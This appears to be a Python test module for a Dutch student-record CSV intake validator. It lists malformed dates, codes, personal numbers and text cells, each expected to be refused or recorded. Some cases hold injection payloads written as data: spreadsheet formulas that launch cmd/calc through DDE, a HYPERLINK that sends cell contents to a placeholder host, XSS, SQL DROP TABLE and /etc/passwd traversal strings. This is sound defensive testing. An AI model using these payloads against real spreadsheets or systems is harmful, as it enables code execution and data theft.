"""One bad or odd cell in an otherwise good file: days, codes, numbers of persons, and texts that do something."""

from datetime import date

from corpus.case import ENROLLED, GOOD, HEADER, LEFT, OTHER, Case, line, read, with_row
from corpus.people import EIGHT, FAILING, FENNA, OMER, ZEROS, serial
from intake.making import Cells, table


def refused(category: str, name: str, row: Cells, column: str | None) -> Case:
    """Row 2 is refused at this column; the row below it is recorded all the same."""
    return Case(category, f"{name}.csv", with_row(row), read(1, row2=column))


def recorded(category: str, name: str, row: Cells) -> Case:
    """Row 2 is recorded."""
    return Case(category, f"{name}.csv", with_row(row), read(2))


def rounded(number: str) -> str:
    """What a Dutch spreadsheet makes of a long number."""
    return f"{number[0]},{number[1:8].rstrip('0')}E+08"


DAYS_READ = {"dag_eerst": "31-07-2023", "een_cijfer": "1-7-2023", "jaar_eerst": "2023-07-31"}
DAYS_REFUSED = {
    "maand_eerst_streepjes": "07-31-2023",
    "maand_eerst_schuine_strepen": "07/31/2023",
    "dag_eerst_schuine_strepen": "31/07/2023",
    "jaar_eerst_schuine_strepen": "2023/07/31",
    "volgnummer": serial(date(2023, 7, 31)),
    "jaar_twee_cijfers": "31-07-23",
    "31_februari": "31-02-2023",
    "29_februari_geen_schrikkeljaar": "2023-02-29",
    "maand_13": "2023-13-01",
    "dag_00": "00-07-2023",
    "jaar_0023": "31-07-0023",
    "jaar_2203": "31-07-2203",
    "met_tijd": "2023-07-31 00:00:00",
    "met_tijd_iso": "2023-07-31T00:00:00Z",
    "maand_voluit": "31 juli 2023",
    "zonder_streepjes": "20230731",
    "brede_cijfers": "３１-０７-２０２３",
    "arabische_cijfers": "٣١-٠٧-٢٠٢٣",
    "geboortedatum_met_00": "2006-00-00",
    "foutwaarde": "#WAARDE!",
    "te_smalle_kolom": "##########",
}
DAYS = [
    *[recorded("dag", name, LEFT | {"datum": day}) for name, day in DAYS_READ.items()],
    *[refused("dag", name, LEFT | {"datum": day}, "datum") for name, day in DAYS_REFUSED.items()],
    refused("dag", "geboren_31_februari", ENROLLED | {"geboortedatum": "31-02-2006"}, "geboortedatum"),
    refused("dag", "geboren_volgnummer", ENROLLED | {"geboortedatum": serial(FENNA.born)}, "geboortedatum"),
    refused("dag", "geboren_amerikaans", ENROLLED | {"geboortedatum": f"{FENNA.born:%m/%d/%Y}"}, "geboortedatum"),
    refused("dag", "voor_de_geboorte", ENROLLED | {"datum": "2006-03-16"}, "datum"),
    recorded("dag", "toekomst", LEFT | {"datum": "2093-07-31"}),
]  # fmt: skip

CODES = [
    refused("code", "brin_1e05", LEFT | {"school": "1E05"}, "school"),
    refused("code", "brin_afgerond", LEFT | {"school": "1,00E+05"}, "school"),
    refused("code", "brin_nul_weg", LEFT | {"school": "2QZ"}, "school"),
    refused("code", "brin_als_getal", LEFT | {"school": "25"}, "school"),
    refused("code", "brin_kleine_letters", LEFT | {"school": "02qz"}, "school"),
    refused("code", "brin_cyrillisch", LEFT | {"school": "02АВ"}, "school"),
    refused("code", "brin_griekse_z", LEFT | {"school": "02QΖ"}, "school"),
    refused("code", "brin_zacht_afbreekstreepje", LEFT | {"school": "02\u00adQZ"}, "school"),
    refused("code", "ilt_nul_weg", ENROLLED | {"ilt": "470"}, "ilt"),
    refused("code", "gemeente_nul_weg", ENROLLED | {"gemeente": "363"}, "gemeente"),
    refused("code", "leerjaar_met_punt", ENROLLED | {"leerjaar": "3.0"}, "leerjaar"),
    refused("code", "leerjaar_brede_drie", ENROLLED | {"leerjaar": "３"}, "leerjaar"),
    refused("code", "leerjaar_tot_de_macht", ENROLLED | {"leerjaar": "³"}, "leerjaar"),
    refused("code", "rmc_40", ENROLLED | {"rmc": "40"}, "rmc"),
    refused("code", "lwoo_true", ENROLLED | {"lwoo": "TRUE"}, "lwoo"),
    refused("code", "leerweg_onbekend", ENROLLED | {"leerweg": "kbl"}, "leerweg"),
    refused("code", "leerweg_hoofdletters", ENROLLED | {"leerweg": "KB"}, "leerweg"),
    refused("code", "leerweg_nulbreedte", ENROLLED | {"leerweg": "k\u200bb"}, "leerweg"),
    refused("code", "gebeurtenis_onbekend", LEFT | {"gebeurtenis": "VmboGone"}, "gebeurtenis"),
    refused("code", "gebeurtenis_leeg", LEFT | {"gebeurtenis": ""}, "gebeurtenis"),
    refused("code", "foutwaarde_in_code", LEFT | {"reden": "#N/B"}, "reden"),
    refused("code", "dag_van_een_code_gemaakt", LEFT | {"referentie": "3-4-2023"}, "referentie"),
    refused("code", "afgeronde_code", LEFT | {"referentie": "1,2E+15"}, "referentie"),
    refused("code", "code_van_5000_tekens", LEFT | {"reden": "x" * 5_000}, "reden"),
    recorded("code", "nul_vooraan_in_code", LEFT | {"referentie": "00123"}),
    refused("code", "kolom_van_een_andere_soort", LEFT | {"leerweg": "kb"}, "leerweg"),
]  # fmt: skip

DOTTED = f"{OMER.number[:4]}.{OMER.number[4:6]}.{OMER.number[6:]}"
NOBODY_REAL = read(0, row2="leerling", row3="leerling")
"""In a test source numbers of persons are refused: those of the row and of the good row below it."""
PERSONS = [
    Case("persoon", "acht_cijfers.csv", with_row(ENROLLED | {"leerling": EIGHT.number, "geboortedatum": str(EIGHT.born)}), read(2)),
    refused("persoon", "geen_elfproef", ENROLLED | {"leerling": FAILING.number, "geboortedatum": str(FAILING.born)}, "leerling"),
    refused("persoon", "negen_nullen", LEFT | {"leerling": ZEROS}, "leerling"),
    refused("persoon", "afgerond", LEFT | {"leerling": rounded(FENNA.number)}, "leerling"),
    refused("persoon", "met_punten", LEFT | {"leerling": DOTTED}, "leerling"),
    refused("persoon", "met_decimalen", LEFT | {"leerling": f"{OMER.number},0"}, "leerling"),
    refused("persoon", "tien_cijfers", LEFT | {"leerling": f"{OMER.number}0"}, "leerling"),
    refused("persoon", "naam_in_plaats_van_nummer", LEFT | {"leerling": OMER.name}, "leerling"),
    refused("persoon", "twee_nummers", LEFT | {"leerling": f"{OMER.number} {FENNA.number}"}, "leerling"),
    refused("persoon", "leeg", LEFT | {"leerling": ""}, "leerling"),
    refused("persoon", "token_zonder_herkomst", LEFT | {"leerling": "token:abc"}, "leerling"),
    Case("persoon", "testsleutel_afgerond.csv", with_row(LEFT | {"leerling": "1E+08"}), NOBODY_REAL, options={"test_source": "proef"}),
    Case("persoon", "nummer_als_testsleutel.csv", with_row(ENROLLED | {"leerling": OMER.number}), NOBODY_REAL, options={"test_source": "proef"}),
    Case("persoon", "mislukt_nummer_als_testsleutel.csv", with_row(ENROLLED | {"leerling": FAILING.number, "geboortedatum": str(FAILING.born)}), NOBODY_REAL, options={"test_source": "proef"}),
    Case("persoon", "nummer_in_testsleutel.csv", with_row(LEFT | {"leerling": f"BSN {OMER.number}"}), NOBODY_REAL, options={"test_source": "proef"}),
    *[
        refused("persoon", f"nummer_in_{column}", row | {column: OMER.number}, column)
        for row, column in (
            (ENROLLED, "leerweg"), (ENROLLED, "rmc"), (ENROLLED, "leerjaar"), (LEFT, "school"),
            (LEFT, "datum"), (LEFT, "reden"), (LEFT, "referentie"), (LEFT, "gebeurtenis"), 
            (ENROLLED, "geboortedatum"),
        )
    ],
    refused("persoon", "nummer_in_kolom_van_andere_soort", LEFT | {"rmc": OMER.number}, "rmc"),
    refused("persoon", "nummer_met_punten_in_reden", LEFT | {"reden": DOTTED}, "reden"),
    refused("persoon", "nummer_in_een_zin", LEFT | {"reden": f"zie leerling {OMER.number}"}, "reden"),
    refused("persoon", "nummer_afgerond_in_referentie", LEFT | {"referentie": rounded(OMER.number)}, "referentie"),
    refused("persoon", "nummer_arabisch", LEFT | {"reden": OMER.number.translate({48 + i: 0x660 + i for i in range(10)})}, "reden"),
    refused("persoon", "eigen_nummer_herhaald", LEFT | {"leerling": FAILING.number, "reden": FAILING.number}, "reden"),
    *[
        refused("persoon", f"naam_in_{column}", row | {column: OMER.name}, column)
        for row, column in ((ENROLLED, "leerweg"), (ENROLLED, "rmc"), (LEFT, "school"), (LEFT, "datum"), (LEFT, "gebeurtenis"), (ENROLLED, "geboortedatum"))
    ],
    refused("persoon", "naam_met_klas_in_leerweg", ENROLLED | {"leerweg": f"{FENNA.name.split()[0]} 3b"}, "leerweg"),
    *[
        refused("persoon", f"geboortedatum_in_{column}", row | {column: f"{OMER.born:%d-%m-%Y}"}, column)
        for row, column in ((ENROLLED, "leerweg"), (ENROLLED, "rmc"), (LEFT, "school"), (LEFT, "reden"), (LEFT, "geboortedatum"))
    ],
    Case("persoon", "naam_met_komma_verschuift.csv", table([LEFT | {"reden": "x"}], ",").replace(",x", f",{OMER.name.split()[1]}, {OMER.name.split()[0]}"), read(0, row2=None)),
    Case("persoon", "rij_verschoven.csv", f"{HEADER}\r\n;{line(ENROLLED)}\r\n{line(OTHER)}\r\n", read(1, row2="gebeurtenis")),
    Case("persoon", "nummer_na_de_laatste_kolom.csv", f"{HEADER}\r\n{line(LEFT)};{OMER.number}\r\n", read(0, row2=None)),
]  # fmt: skip

ROWS = [
    Case("rij", "cel_te_veel.csv", f"{HEADER}\r\n{line(LEFT)};x\r\n{line(OTHER)}\r\n", read(1, row2=None)),
    Case("rij", "cellen_te_weinig.csv", f"{HEADER}\r\n{OMER.number};VmboLeft\r\n{line(OTHER)}\r\n", read(1, row2=None)),
    Case("rij", "dubbele_rij.csv", f"{GOOD}{line(OTHER)}\r\n", read(3, known=1)),
    Case("rij", "tegenstrijdige_rij.csv", f"{GOOD}{line(OTHER | {'leerweg': 'bb'})}\r\n", read(3, row5="leerweg")),
    Case("rij", "zelfde_nummer_ander_kind.csv", f"{GOOD}{line(OTHER | {'geboortedatum': str(FENNA.born)})}\r\n", read(3, row5="geboortedatum")),
    Case("rij", "verkeerde_volgorde.csv", table([LEFT, ENROLLED], ";"), read(2)),
]  # fmt: skip

DANGEROUS = {
    "formule_hyperlink": '=HYPERLINK("http://x.example/?"&A2;"klik")',
    "formule_plus": "+1+1",
    "formule_min": "-2+3+cmd|' /C calc'!A0",
    "formule_apenstaart": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formule_dde": "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "formule_na_tab": "\t=1+1",
    "formule_als_tekst": "'=1+1",
    "formule_breed_teken": "＝1+1",
    "rechts_naar_links": "\u202eduisrev",
    "isolaat": "ver\u2066huisd\u2069",
    "nulbreedte": "ver\u200bhuisd",
    "zachte_streep": "ver\u00adhuisd",
    "regelscheiding_u2028": "ver\u2028huisd",
    "escape_teken": "\x1b[31mrood\x1b[0m",
    "bel": "ver\x07huisd",
    "verticale_tab": "ver\x0bhuisd",
    "prive_teken": "ver\ue000huisd",
}  # fmt: skip
HARMLESS = {
    "html": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "markdown": "[klik](javascript:alert(1)) ![x](http://x.example/p.png)",
    "kleur_en_latex": ":red[x] $x$ <b>",
    "rich_opmaak": "[red]x[/red] [link=http://x.example]y[/link]",
    "sql": "x'); DROP TABLE read_rows;--",
    "pad": "../../etc/passwd",
    "sjabloon": "{{7*7}} ${7*7} %s {0}",
    "emoji": "verhuisd 🚚",
    "nfd": "reu\u0308nie",
    "apostrof": "'s-Gravenhage d’Estrée",
}
TEXTS = [
    *[refused("tekst", name, LEFT | {"reden": text}, "reden") for name, text in DANGEROUS.items()],
    *[recorded("tekst", name, LEFT | {"reden": text}) for name, text in HARMLESS.items()],
    *[
        refused("tekst", f"{name}_in_leerweg", ENROLLED | {"leerweg": HARMLESS[name]}, "leerweg")
        for name in ("html", "markdown", "rich_opmaak", "sjabloon")
    ],
    refused("tekst", "formule_in_leerweg", ENROLLED | {"leerweg": "=1+1"}, "leerweg"),
]

CASES = [*DAYS, *CODES, *PERSONS, *ROWS, *TEXTS]
